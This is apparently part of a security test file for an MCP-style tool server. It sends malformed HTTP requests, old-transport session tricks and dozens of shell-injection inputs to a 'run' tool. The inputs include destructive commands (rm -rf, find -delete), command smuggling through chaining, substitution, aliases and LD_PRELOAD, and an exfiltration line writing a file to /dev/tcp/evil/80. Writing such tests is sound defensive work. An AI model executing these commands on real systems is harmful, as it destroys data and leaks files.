attack('chunks', `${bad().length.toString(16)}\r\n${bad()}\r\n0\r\n\r\n`, { framing: ['Transfer-Encoding: chunked'] });
attack('chunks in a coding', bad(), {
  framing: ['Transfer-Encoding: gzip, chunked'],
  code: 'bad_http',
  isUnread: true,
});

group = 'the 2024-11-05 transport';
attack('a message without its address', bad(), { query: '@messages', connection: 'old' });
attack('an address that nobody sealed', bad(), {
  query: '@messages?sessionId=abc',
  connection: 'old',
  code: 'denied',
});
attack('a query of its own', bad(), {
  query: '@messages?sessionId=abc&name=drop_all',
  connection: 'old',
  code: 'bad_http',
});
attack('GET of messages', '', {
  method: 'GET',
  query: '@messages?sessionId=drop_all',
  connection: 'old',
  code: 'method_not_allowed',
});
attack('POST to the stream', bad(), { query: '@sse', connection: 'old', code: 'method_not_allowed' });
attack('its version on the other transport', bad(), { headers: ['MCP-Protocol-Version: 2024-11-05'] });

group = 'shell';
const run = (command: unknown): string => message('tools/call', { name: 'run', arguments: { command } });
for (const command of [
  'rm -rf /victims',
  '/bin/rm -rf /victims',
  'ls; rm -rf /victims',
  'ls && rm -rf /victims',
  'ls || rm -rf /victims',
  'ls | sh -c "rm -rf /victims"',
  'ls & rm -rf /victims',
  'ls\nrm -rf /victims',
  'ls $(rm -rf /victims)',
  'ls `rm -rf /victims`',
  'ls <(rm -rf /victims)',
  'cat > /etc/victims',
  'ls >> ~/.ssh/victims',
  "$'\\x72m' -rf /victims",
  'r""m -rf /victims',
  'r\\m -rf /victims',
  '{rm,-rf,/victims}',
  '$CMD /victims',
  'X=rm; $X -rf /victims',
  'env rm -rf /victims',
  'xargs rm < victims',
  'find / -name victims -exec rm {} \\;',
  'find / -name victims -delete',
  'eval "rm -rf /victims"',
  'sh -c "rm -rf /victims"',
  'LD_PRELOAD=/tmp/victims ls',
  'PATH=/tmp/victims ls',
  'command rm victims',
  'exec rm victims',
  'trap "rm victims" EXIT; ls',
  'source /tmp/victims',
  '. /tmp/victims',
  'ls() { rm victims; }; ls',
  'alias ls=rm; ls victims',
  'ls "$(echo `rm victims`)"',
  'ls ${x:-$(rm victims)}',
  'ls $((a[$(rm victims)]))',
  'cat <<EOF\n$(rm victims)\nEOF',
  '[[ -n $(rm victims) ]] && ls',
  'if rm victims; then ls; fi',
  'ls "unclosed; rm victims',
  './ls victims',
  '/tmp/ls victims',
  'ls\u00a0; rm victims',
  'ls\r\nrm victims',
  'ls # x\nrm victims',
  'ls \\\n; rm victims',
  'time rm victims',
  '! rm victims',
  'cat victims > /dev/tcp/evil/80',
  'ls victims >| x',
  'grep -r x victims | tee /etc/x',
]) {
  attack(JSON.stringify(command), run(command), { connection: 'sh' });
}
for (const command of [['ls', ';rm victims'], { 0: 'rm victims' }])
  attack(JSON.stringify(command), run(command), { connection: 'sh' });

/** Does no damage by itself; but who allows what can't be read allows the rest. */
export const NOTHING = 'nothing that could be read';
group = NOTHING;
for (const connection of ALL_SQL) {
  for (const sql of ['', ' ', ';', null, 1, true])
    attack(`${connection}: ${JSON.stringify(sql)}`, query(sql), { connection });
}
for (const command of ['', ' ', null, 7]) attack(JSON.stringify(command), run(command), { connection: 'sh' });
